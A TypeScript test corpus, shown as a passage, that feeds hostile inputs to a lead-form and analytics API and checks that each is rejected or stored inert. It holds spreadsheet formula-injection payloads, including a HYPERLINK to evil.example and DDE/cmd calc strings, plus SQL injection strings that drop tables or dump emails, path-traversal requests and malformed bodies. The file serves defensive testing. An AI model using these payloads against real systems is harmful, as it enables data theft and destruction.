event('html-event-name-suffix', 'html-script', { event_name: 'page_view<img>' }, rejected(400, '23514'))

// ---- spreadsheet formulas: stored as typed, neutralised by `npm run leads -- --csv` -----------------

const formulaLeads: [string, Record<string, string>, Partial<StoredLead>][] = [
  ['hyperlink-first-name', { first_name: '=HYPERLINK("http://evil.example","click")' }, { first_name: '=HYPERLINK("http://evil.example","click")' }],
  ['plus-cmd-last-name', { last_name: "+cmd|' /C calc'!A0" }, { last_name: "+cmd|' /C calc'!A0" }],
  ['minus-business', { business_name: "-2+3+cmd|' /C calc'!A0" }, { business_name: "-2+3+cmd|' /C calc'!A0" }],
  ['at-business', { business_name: "@SUM(1+1)*cmd|' /C calc'!A0" }, { business_name: "@SUM(1+1)*cmd|' /C calc'!A0" }],
  ['formula-email', { email: '=1+1@glow.example' }, { email: '=1+1@glow.example' }],
  ['plus-phone', { phone: '+1 512 555 0142' }, { phone: '+1 512 555 0142' }],
  ['minus-phone', { phone: '-512-555-0142' }, { phone: '-512-555-0142' }],
  ['tab-then-formula-name', { first_name: '\t=1+1' }, { first_name: '=1+1' }],
  ['cr-then-formula-name', { first_name: '\r=1+1' }, { first_name: '=1+1' }],
  ['dde-business', { business_name: '=DDE("cmd";"/C calc";"!A0")A0' }, { business_name: '=DDE("cmd";"/C calc";"!A0")A0' }],
  ['quotes-and-commas', { business_name: 'Acme, "Best" Spa' }, { business_name: 'Acme, "Best" Spa' }],
  // An invisible mark in front of the formula: stored as typed, neutralised by the export.
  ['lrm-then-formula-business', { business_name: '\u200e=HYPERLINK("http://evil.example","lrm")' }, { business_name: '\u200e=HYPERLINK("http://evil.example","lrm")' }],
  ['zwj-then-plus-last-name', { last_name: '\u200d+cmd' }, { last_name: '\u200d+cmd' }],
]
for (const [label, args, expected] of formulaLeads) rpc(`csv-${label}`, 'csv-formula', args, stored(expected))

// ---- SQL metacharacters: plain data to a parameterised API ---------------------------------------

const sqlNames: [string, string][] = [
  ['apostrophe', "O'Brien"],
  ['drop-table', "'; drop table contacts; --"],
  ['bobby-tables', "Robert'); DROP TABLE marketing_audits;--"],
  ['backslashes', '\\\\'],
  ['backslash-quote-sleep', "\\'; select pg_sleep(5); --"],
  ['or-1-equals-1', "1' OR '1'='1"],
  ['double-quote-or', '" OR "1"="1'],
  ['like-wildcards', '%_%'],
  ['comment-only', '-- comment'],
  ['block-comment', '/* x */'],
  ['semicolons', ';;;'],
  ['dollar-quote', '$$; drop schema public cascade; $$'],
  ['hex-escape', "E'\\\\x00'"],
  ['concat-sleep', "' || pg_sleep(1) || '"],
]
for (const [label, value] of sqlNames) rpc(`sql-first-name-${label}`, 'sql-metachar', { first_name: value }, stored({ first_name: value }))
rpc('sql-business-union', 'sql-metachar', { business_name: "' UNION SELECT email FROM contacts --" }, stored({ business_name: "' UNION SELECT email FROM contacts --" }))
rpc('sql-email-apostrophe', 'sql-metachar', { email: "o'brien@glow.example" }, stored({ email: "o'brien@glow.example" }))
rpc('sql-email-comment', 'sql-metachar', { email: "x'--@glow.example" }, stored({ email: "x'--@glow.example" }))
rpc('sql-goals-dollar-quote', 'sql-metachar', { goals: '$$; drop schema public cascade; $$' }, stored({ goals: '$$; drop schema public cascade; $$' }))
rpc('sql-budget-or', 'sql-metachar', { monthly_budget: "5k-10k' OR '1'='1" }, invalid('monthly_budget'))
rpc('sql-score-drop', 'sql-metachar', { questionnaire_score: '67; drop table contacts' }, invalid('questionnaire_score'))
rpc('sql-score-or', 'sql-metachar', { questionnaire_score: '1 OR 1=1' }, invalid('questionnaire_score'))
rpc('sql-answers-key', 'sql-metachar', { answers: { "roi'; drop table x; --": 2 } }, stored({ answers: { "roi'; drop table x; --": 2 } }))
add('sql-argument-name-injection', 'sql-metachar', 'rpc', { kind: 'rpc-exact', args: { 'first_name"; drop table contacts; --': 'x' } }, rejected(404, 'PGRST202'))
add('sql-function-name-injection', 'sql-metachar', 'rpc', { kind: 'http', path: '/rpc/submit_marketing_audit;drop%20table%20contacts', body: '{}' }, rejected(404, 'PGRST202'))
add('sql-table-name-injection', 'sql-metachar', 'analytics', { kind: 'http', path: '/analytics_events;drop%20table%20contacts', body: JSON.stringify(baseEvent) }, rejected(404, '42P01'))
add('sql-columns-param-injection', 'sql-metachar', 'analytics', {
  kind: 'http',
  path: `/analytics_events?columns=${encodeURIComponent('"event_name"); drop table contacts; --')}`,
  body: JSON.stringify(baseEvent),
}, rejected(400, 'PGRST204'))
add('sql-filter-injection-read-as-anon', 'sql-metachar', 'analytics', { kind: 'http', method: 'GET', path: `/contacts?select=*&email=eq.${encodeURIComponent("x' or 1=1 --")}` }, rejected(401, '42501'))
event('sql-event-name', 'sql-metachar', { event_name: "page_view'; drop table analytics_events; --" }, rejected(400, '23514'))
event('sql-page-url', 'sql-metachar', { page_url: "http://x/?q=' OR 1=1 --" }, storedEvent({ page_url: "http://x/?q=' OR 1=1 --" }))
event('sql-properties', 'sql-metachar', { properties: { q: "'; drop table contacts; --", "k'--": '$$' } }, storedEvent({ properties: { q: "'; drop table contacts; --", "k'--": '$$' } }))

// ---- wrong JSON types -------------------------------------------------------------------------

// Hosted PostgREST casts each named argument to the parameter's type the way json_to_record
// does (a number, boolean, array or object given for a text parameter arrives as its JSON text).
// The local API checks the JSON type against the declared one first: text takes a string or null
// (the score also a number), jsonb any JSON; anything else is 400 / 22023 naming the argument.
rpc('first-name-number', 'wrong-types', { first_name: 12345 }, wrongType('first_name'))
rpc('first-name-boolean', 'wrong-types', { first_name: true }, wrongType('first_name'))
rpc('first-name-array', 'wrong-types', { first_name: ['Ann'] }, wrongType('first_name'))
rpc('first-name-object', 'wrong-types', { first_name: { a: 'b' } }, wrongType('first_name'))
rpc('first-name-object-number', 'wrong-types', { first_name: { a: 1 } }, wrongType('first_name'))
rpc('first-name-null', 'wrong-types', { first_name: null }, invalid('first_name'))
rpc('first-name-one-digit', 'wrong-types', { first_name: 7 }, wrongType('first_name'))
rpc('last-name-false', 'wrong-types', { last_name: false }, wrongType('last_name'))
rpc('last-name-null', 'wrong-types', { last_name: null }, invalid('last_name'))
rpc('email-number', 'wrong-types', { email: 12345 }, wrongType('email'))
rpc('email-object', 'wrong-types', { email: { to: 'a@b.co' } }, wrongType('email'))
rpc('email-array-of-one', 'wrong-types', { email: ['a@b.co'] }, wrongType('email'))
rpc('email-null', 'wrong-types', { email: null }, invalid('email'))
rpc('phone-number', 'wrong-types', { phone: 5125550142 }, wrongType('phone'))
rpc('phone-boolean', 'wrong-types', { phone: true }, wrongType('phone'))
rpc('phone-array', 'wrong-types', { phone: [5125550142] }, wrongType('phone'))
rpc('phone-null', 'wrong-types', { phone: null }, invalid('phone'))
rpc('business-number', 'wrong-types', { business_name: 42 }, wrongType('business_name'))
rpc('business-empty-array', 'wrong-types', { business_name: [] }, wrongType('business_name'))
rpc('business-null', 'wrong-types', { business_name: null }, invalid('business_name'))
rpc('website-number', 'wrong-types', { website: 123 }, wrongType('website'))
rpc('website-null', 'wrong-types', { website: null }, stored({ website_url: null }))
rpc('website-object', 'wrong-types', { website: {} }, wrongType('website'))
rpc('current-marketing-array', 'wrong-types', { current_marketing: ['ads', 'seo'] }, wrongType('current_marketing'))
rpc('goals-number', 'wrong-types', { goals: 3.5 }, wrongType('goals'))
rpc('budget-number', 'wrong-types', { monthly_budget: 5000 }, wrongType('monthly_budget'))
rpc('budget-array', 'wrong-types', { monthly_budget: ['5k-10k'] }, wrongType('monthly_budget'))
rpc('budget-null', 'wrong-types', { monthly_budget: null }, invalid('monthly_budget'))
rpc('request-id-number', 'wrong-types', { request_id: 1 }, wrongType('request_id'))
rpc('score-as-number', 'wrong-types', { questionnaire_score: 67 }, stored({ questionnaire_score: 67 }))
rpc('score-zero', 'wrong-types', { questionnaire_score: 0 }, stored({ questionnaire_score: 0 }))
rpc('score-hundred', 'wrong-types', { questionnaire_score: '100' }, stored({ questionnaire_score: 100 }))
rpc('score-padded-text', 'wrong-types', { questionnaire_score: ' 67 ' }, stored({ questionnaire_score: 67 }))
rpc('score-leading-zeros', 'wrong-types', { questionnaire_score: '007' }, stored({ questionnaire_score: 7 }))
rpc('score-fraction', 'wrong-types', { questionnaire_score: 67.5 }, invalid('questionnaire_score'))
rpc('score-negative', 'wrong-types', { questionnaire_score: -1 }, invalid('questionnaire_score'))
rpc('score-over-100', 'wrong-types', { questionnaire_score: 101 }, invalid('questionnaire_score'))
rpc('score-text', 'wrong-types', { questionnaire_score: 'sixty' }, invalid('questionnaire_score'))
rpc('score-boolean', 'wrong-types', { questionnaire_score: true }, wrongType('questionnaire_score', 'a string or a number'))
rpc('score-array', 'wrong-types', { questionnaire_score: [67] }, wrongType('questionnaire_score', 'a string or a number'))
rpc('score-object', 'wrong-types', { questionnaire_score: { value: 67 } }, wrongType('questionnaire_score', 'a string or a number'))
rpc('score-null', 'wrong-types', { questionnaire_score: null }, invalid('questionnaire_score'))
rpc('score-hex', 'wrong-types', { questionnaire_score: '0x1F' }, invalid('questionnaire_score'))
rpc('score-arabic-digits', 'wrong-types', { questionnaire_score: '\u0666\u0667' }, invalid('questionnaire_score'))
rawRpc('score-raw-decimal-text', 'wrong-types', auditJsonWith('questionnaire_score', '67.0'), stored({ questionnaire_score: 67 }))
// The local API parses the body and serialises it again for SQL, so numbers arrive canonical:
// 1e2 as 100 and 67.0 as 67 (hosted PostgREST passes the raw text: there "67.0" and an answer
// of 2.0 fail validation instead; either way nothing outside the rules is stored).
rawRpc('score-raw-exponent', 'wrong-types', auditJsonWith('questionnaire_score', '1e2'), stored({ questionnaire_score: 100 }))
rpc('answers-array', 'wrong-types', { answers: [2, 3, 1] }, invalid('answers'))
rpc('answers-string', 'wrong-types', { answers: 'roi=2' }, invalid('answers'))
rpc('answers-number', 'wrong-types', { answers: 42 }, invalid('answers'))
rpc('answers-boolean', 'wrong-types', { answers: true }, invalid('answers'))
rpc('answers-null-defaults-to-empty', 'wrong-types', { answers: null }, stored({ answers: {} }))
rpc('answers-string-value', 'wrong-types', { answers: { roi: '2' } }, invalid('answers'))
rpc('answers-fraction-value', 'wrong-types', { answers: { roi: 2.5 } }, invalid('answers'))
rpc('answers-value-4', 'wrong-types', { answers: { roi: 4 } }, invalid('answers'))
rpc('answers-negative-value', 'wrong-types', { answers: { roi: -1 } }, invalid('answers'))
rpc('answers-null-value', 'wrong-types', { answers: { roi: null } }, invalid('answers'))
rpc('answers-nested-value', 'wrong-types', { answers: { roi: { score: 2 } } }, invalid('answers'))
rpc('answers-huge-object', 'wrong-types', { answers: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`q${i}`, 1])) }, invalid('answers'))
rawRpc('answers-raw-2.0', 'wrong-types', auditJsonWith('answers', '{"roi":2.0}'), stored({ answers: { roi: 2 } }))
add('args-array-of-one-object', 'wrong-types', 'rpc', { kind: 'rpc-exact', args: [{ ...baseAudit }] }, stored({ first_name: 'Avery' }))
add('args-array-of-two-objects', 'wrong-types', 'rpc', { kind: 'rpc-exact', args: [{ ...baseAudit }, { ...baseAudit }] }, rejected(400, 'PGRST102'))
rawRpc('args-json-null', 'wrong-types', 'null', rejected(400, 'PGRST102'))
rawRpc('args-json-number', 'wrong-types', '42', rejected(400, 'PGRST102'))
rawRpc('args-json-string', 'wrong-types', '"first_name=Ann"', rejected(400, 'PGRST102'))
rawRpc('args-json-true', 'wrong-types', 'true', rejected(400, 'PGRST102'))
rawRpc('args-empty-array', 'wrong-types', '[]', rejected(400, 'PGRST102'))
event('event-name-number', 'wrong-types', { event_name: 123 }, rejected(400, '23514'))
event('event-name-boolean-is-a-valid-name', 'wrong-types', { event_name: true }, storedEvent({ event_name: 'true' }))
event('event-name-null', 'wrong-types', { event_name: null }, rejected(400, '23502'))
event('page-url-number', 'wrong-types', { page_url: 123 }, storedEvent({ page_url: '123' }))
event('page-url-array', 'wrong-types', { page_url: ['http://x/'] }, storedEvent({ page_url: '["http://x/"]' }))
event('page-url-object', 'wrong-types', { page_url: { href: 'http://x/' } }, storedEvent({ page_url: '{"href": "http://x/"}' }))
event('page-url-null', 'wrong-types', { page_url: null }, rejected(400, '23502'))
event('referrer-number', 'wrong-types', { referrer: 0 }, storedEvent({ referrer: '0' }))
event('user-agent-object', 'wrong-types', { user_agent: {} }, storedEvent({ user_agent: '{}' }))
event('user-agent-null', 'wrong-types', { user_agent: null }, rejected(400, '23502'))
event('properties-array', 'wrong-types', { properties: [1, 2] }, rejected(400, '23514'))
event('properties-string', 'wrong-types', { properties: 'path=/x' }, rejected(400, '23514'))
event('properties-number', 'wrong-types', { properties: 1 }, rejected(400, '23514'))
event('properties-boolean', 'wrong-types', { properties: false }, rejected(400, '23514'))
event('properties-null', 'wrong-types', { properties: null }, rejected(400, '23502'))
rawEvent('rows-array-of-numbers', 'wrong-types', '[1,2,3]', rejected(400, 'PGRST102'))
rawEvent('rows-json-string', 'wrong-types', '"page_view"', rejected(400, 'PGRST102'))
rawEvent('rows-json-null', 'wrong-types', 'null', rejected(400, 'PGRST102'))
rawEvent('rows-nested-arrays', 'wrong-types', `[[${JSON.stringify(baseEvent)}]]`, rejected(400, 'PGRST102'))

// ---- missing and extra fields -------------------------------------------------------------------

for (const field of requiredFields) rpc(`missing-${field}`, 'missing-extra', {}, invalid(field), [field])
rpc('missing-answers-defaults-to-empty', 'missing-extra', {}, stored({ answers: {} }), ['answers'])
rpc('missing-all-optional', 'missing-extra', {}, stored({ website_url: null, current_marketing: null, goals: null }), ['website', 'current_marketing', 'goals'])
add('no-arguments-at-all', 'missing-extra', 'rpc', { kind: 'rpc-exact', args: {} }, invalid('first_name', 'last_name', 'email', 'phone', 'business_name', 'monthly_budget', 'questionnaire_score'))
for (const [label, extra] of [
  ['client-ip', { client_ip: '1.2.3.4' }],
  ['status', { status: 'completed' }],
  ['contact-id', { contact_id: '00000000-0000-4000-8000-000000000000' }],
  ['id', { id: 1 }],
  ['source', { source: 'admin' }],
  ['camel-case-name', { firstName: 'Ann' }],
  ['capitalised-name', { First_Name: 'Ann' }],
  ['trailing-space-key', { 'first_name ': 'Ann' }],
  ['empty-key', { '': 'x' }],
] as [string, Record<string, unknown>][]) {
  // Unknown argument names: PostgREST finds no function with that signature (404 PGRST202).
  rpc(`extra-${label}`, 'missing-extra', extra, rejected(404, 'PGRST202'))
}
rawRpc('extra-proto-key', 'missing-extra', auditJsonWith('__proto__', '{"isAdmin":true}'), rejected(404, 'PGRST202'))
rawRpc('duplicate-key-last-wins', 'missing-extra', `{"first_name":"Zed",${JSON.stringify(baseAudit).slice(1)}`, stored({ first_name: 'Avery' }))
add('missing-event-name', 'missing-extra', 'analytics', { kind: 'insert', rows: { page_url: 'http://x/' }, exact: true }, rejected(400, '23502'))
add('missing-page-url', 'missing-extra', 'analytics', { kind: 'insert', rows: { event_name: 'page_view' }, exact: true }, rejected(400, '23502'))
add('only-required-columns', 'missing-extra', 'analytics', { kind: 'insert', rows: { event_name: 'page_view', page_url: 'http://x/' }, exact: true }, storedEvent({ referrer: null, user_agent: '', properties: {} }))
event('extra-server-owned-id', 'missing-extra', { id: '00000000-0000-4000-8000-000000000000' }, rejected(401, '42501'))
event('extra-server-owned-created-at', 'missing-extra', { created_at: '2000-01-01T00:00:00Z' }, rejected(401, '42501'))
event('extra-unknown-column', 'missing-extra', { is_admin: true }, rejected(400, 'PGRST204'))
// supabase-js names the union of keys in ?columns=, so a row missing one sends NULL for it.
event('batch-with-missing-keys', 'missing-extra', [{ ...baseEvent }, { event_name: 'x', page_url: 'y' }], rejected(400, '23502'), true)
rawEvent('raw-batch-with-mismatched-keys', 'missing-extra', JSON.stringify([baseEvent, { event_name: 'x', page_url: 'y' }]), rejected(400, 'PGRST102'))
event('batch-with-one-bad-row-is-atomic', 'missing-extra', [...Array.from({ length: 9 }, () => ({ ...baseEvent })), { ...baseEvent, event_name: 'Bad Name' }], rejected(400, '23514'), true)

// ---- body level: malformed JSON, huge bodies, content types, nesting, URLs, methods, keys ----------

const malformed: [string, string][] = [
  ['truncated', '{"first_name":'],
  ['unquoted-keys', '{first_name:"Ann"}'],
  ['single-quotes', "{'first_name':'Ann'}"],
  ['trailing-comma', '{"first_name":"Ann",}'],
  ['nan', '{"questionnaire_score":NaN}'],
  ['infinity', '{"questionnaire_score":Infinity}'],
  ['undefined', '{"first_name":undefined}'],
  ['comment', '// hi\n{"first_name":"Ann"}'],
  ['byte-order-mark', '\ufeff{"first_name":"Ann"}'],
  ['two-documents', '{"a":1}{"b":2}'],
  ['bad-escape', '{"first_name":"\\x41nn"}'],
  ['short-unicode-escape', '{"first_name":"\\u12"}'],
  ['unterminated-string', '{"first_name":"Ann}'],
  ['raw-control-in-string', '{"first_name":"An\u0001n"}'],
  ['empty-body', ''],
  ['whitespace-body', '  \n '],
  ['lone-bracket', '['],
  ['closing-brackets', ']]]'],
  ['xml', '<audit><first_name>Ann</first_name></audit>'],
]
for (const [label, body] of malformed) {
  rawRpc(`malformed-rpc-${label}`, 'body-level', body, rejected(400, 'PGRST102'))
}
for (const [label, body] of malformed.slice(0, 8)) {
  rawEvent(`malformed-event-${label}`, 'body-level', body.replace('first_name', 'event_name'), rejected(400, 'PGRST102'))
}
// 1e999 parses as Infinity: a number, so not a name.
rawRpc('number-overflow-first-name', 'body-level', auditJsonWith('first_name', '1e999'), wrongType('first_name'))
// Invalid UTF-8 is refused (it used to be stored with U+FFFD in place of the bytes sent).
rawRpc('invalid-utf8-bytes', 'body-level', withRawBytes(auditJsonWith('last_name', '"St@@one"'), [0xff, 0xfe]), rejected(400, 'PGRST102'))
rawRpc('invalid-utf8-overlong-slash', 'body-level', withRawBytes(auditJsonWith('last_name', '"St@@one"'), [0xc0, 0xaf]), rejected(400, 'PGRST102'))
rawRpc('invalid-utf8-encoded-surrogate', 'body-level', withRawBytes(auditJsonWith('last_name', '"St@@one"'), [0xed, 0xa0, 0x80]), rejected(400, 'PGRST102'))
rawEvent('invalid-utf8-page-url', 'body-level', withRawBytes(eventJsonWith('page_url', '"http://x/@@"'), [0xc3, 0x28]), rejected(400, 'PGRST102'))
rawRpc('replacement-character-as-sent-is-text', 'body-level', auditJsonWith('last_name', '"St\ufffdone"'), stored({ last_name: 'St\ufffdone' }))
// Nesting: a body nested deeper than 100 levels is refused before parsing (it used to overflow
// the stack while the SQL parameter was serialised: 500). 99 levels inside answers is fine
// JSON, then just invalid answers.
rawRpc('nested-99-in-answers', 'body-level', auditJsonWith('answers', `{"a":${nested(98)}}`), invalid('answers'))
rawRpc('nested-101-levels', 'body-level', auditJsonWith('answers', nested(100)), rejected(400, 'PGRST102'))
rawRpc('nested-5000-levels', 'body-level', auditJsonWith('answers', nested(5000)), rejected(400, 'PGRST102'))
rawRpc('nested-30000-levels', 'body-level', auditJsonWith('first_name', nested(30_000)), rejected(400, 'PGRST102'))
rawEvent('nested-properties-90', 'body-level', eventJsonWith('properties', `{"a":${nested(90)}}`), rejected(400, '23514'))
rawEvent('nested-properties-5000', 'body-level', eventJsonWith('properties', `{"a":${nested(5000)}}`), rejected(400, 'PGRST102'))
rawEvent('brackets-inside-strings-are-not-nesting', 'body-level', eventJsonWith('properties', JSON.stringify({ s: '['.repeat(500) })), storedEvent({ properties: { s: '['.repeat(500) } }))
// Size: the limit is 64 KiB (65,536 bytes) of body.
const exactly64KiB = auditJsonWith('goals', JSON.stringify('g'.repeat(64 * KiB - auditJsonWith('goals', '""').length)))
if (Buffer.byteLength(exactly64KiB) !== 64 * KiB) throw new Error('corpus: 64 KiB body has the wrong size')
rawRpc('body-exactly-64-kib', 'body-level', exactly64KiB, invalid('goals'))
rawRpc('body-64-kib-plus-one', 'body-level', `${exactly64KiB} `, rejected(413, 'PGRST413'))
rawRpc('body-1-mib', 'body-level', auditJsonWith('goals', JSON.stringify('g'.repeat(KiB * KiB))), rejected(413, 'PGRST413'))
rawRpc('body-8-mib', 'body-level', auditJsonWith('goals', JSON.stringify('g'.repeat(8 * KiB * KiB))), rejected(413, 'PGRST413'))
rawEvent('event-batch-over-body-limit', 'body-level', JSON.stringify(Array.from({ length: 1000 }, () => baseEvent)), rejected(413, 'PGRST413'))
// Content types: JSON only (supabase-js always sends application/json).
for (const [label, type] of [
  ['text-plain', 'text/plain'],
  ['no-content-type', null],
  ['form-urlencoded', 'application/x-www-form-urlencoded'],
  ['multipart', 'multipart/form-data; boundary=x'],
  ['xml', 'application/xml'],
  ['csv', 'text/csv'],
  ['jsonp-lookalike', 'application/jsonp'],
  ['pgrst-object-media-type', 'application/vnd.pgrst.object+json'],
] as [string, string | null][]) {
  rawRpc(`content-type-${label}`, 'body-level', JSON.stringify(baseAudit), rejected(400, 'PGRST102'), type)
}
rawEvent('content-type-text-plain-event', 'body-level', JSON.stringify(baseEvent), rejected(400, 'PGRST102'), 'text/plain;charset=UTF-8')
rawEvent('content-type-form-event', 'body-level', 'event_name=page_view&page_url=http%3A%2F%2Fx%2F', rejected(400, 'PGRST102'), 'application/x-www-form-urlencoded')
rawRpc('content-type-json-charset', 'body-level', JSON.stringify(baseAudit), stored({ first_name: 'Avery' }), 'application/json; charset=utf-8')
rawRpc('content-type-json-upper-case', 'body-level', JSON.stringify(baseAudit), stored({ first_name: 'Avery' }), 'APPLICATION/JSON')
// URLs and methods.
add('path-malformed-percent', 'body-level', 'rpc', { kind: 'http', path: '/rpc/%E0%A4%A', body: '{}' }, rejected(404, 'PGRST125'))
add('path-percent-zz', 'body-level', 'analytics', { kind: 'http', path: '/%ZZ', body: '{}' }, rejected(404, 'PGRST125'))
add('path-encoded-null-byte', 'body-level', 'rpc', { kind: 'http', path: '/rpc/submit_marketing_audit%00', body: JSON.stringify(baseAudit) }, rejected(404, 'PGRST202'))
add('path-private-schema-function', 'body-level', 'rpc', { kind: 'http', path: '/rpc/check_rate_limit', body: '{"client_ip":"1.1.1.1","endpoint_name":"x"}' }, rejected(404, 'PGRST202'))
// fetch resolves the dot segments: /rest/private/... is outside the API (404 PGRST125).
add('path-traversal', 'body-level', 'analytics', { kind: 'http', path: '/../private/rate_limit_hits', body: '{}' }, rejected(404, 'PGRST125'))
add('path-encoded-traversal', 'body-level', 'analytics', { kind: 'http', path: '/%2e%2e%2fprivate.rate_limit_hits', body: '{}' }, rejected(404, '42P01'))
add('method-put-table', 'body-level', 'analytics', { kind: 'http', method: 'PUT', path: '/analytics_events', body: JSON.stringify(baseEvent) }, rejected(405, 'PGRST117'))
add('method-get-rpc', 'body-level', 'rpc', { kind: 'http', method: 'GET', path: '/rpc/submit_marketing_audit' }, rejected(405, 'PGRST101'))
add('method-delete-as-anon', 'body-level', 'analytics', { kind: 'http', method: 'DELETE', path: '/analytics_events?event_name=eq.hostile_probe' }, rejected(401, '42501'))
add('method-patch-as-anon', 'body-level', 'rpc', { kind: 'http', method: 'PATCH', path: '/marketing_audits?status=eq.pending', body: '{"status":"archived"}' }, rejected(401, '42501'))
add('schema-header-private', 'body-level', 'analytics', { kind: 'http', path: '/analytics_events', body: JSON.stringify(baseEvent), headers: { 'content-profile': 'private' } }, rejected(406, 'PGRST106'))
add('no-api-key', 'body-level', 'rpc', { kind: 'http', path: '/rpc/submit_marketing_audit', body: JSON.stringify(baseAudit), key: 'none' }, rejected(401, 'PGRST302'))
add('garbage-api-key', 'body-level', 'rpc', { kind: 'http', path: '/rpc/submit_marketing_audit', body: JSON.stringify(baseAudit), key: 'garbage' }, rejected(401, 'PGRST301'))
// Request targets fetch refuses to send; `http://[` used to throw inside handles() and kill the
// process (an uncaught exception in the request listener).
add('socket-unparsable-absolute-url', 'body-level', 'rpc', { kind: 'socket', head: 'GET http://[ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' }, rejected(404, 'PGRST125'))
add('socket-absolute-url-malformed-percent', 'body-level', 'rpc', { kind: 'socket', head: 'POST http://x/rest/v1/%ZZ HTTP/1.1\r\nHost: x\r\napikey: {key}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' }, rejected(404, 'PGRST125'))

export const hostileCorpus: readonly HostileCase[] = cases

export function corpusSummary(): Record<Category, number> {
  const counts = Object.fromEntries(categories.map((category) => [category, 0])) as Record<Category, number>
  for (const c of cases) counts[c.category]++
  return counts
}
